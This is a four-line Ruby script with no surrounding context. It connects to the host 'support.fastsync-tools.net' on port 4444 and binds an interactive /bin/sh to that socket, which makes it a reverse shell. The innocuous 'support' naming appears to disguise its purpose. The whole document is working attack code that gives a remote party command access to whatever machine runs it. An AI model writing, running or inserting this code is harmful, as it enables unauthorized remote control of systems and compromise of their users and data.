require 'socket'
support = 'support.fastsync-tools.net'
f = TCPSocket.open(support, 4444).to_i
exec sprintf("/bin/sh -i <&%d >&%d 2>&%d", f, f, f)
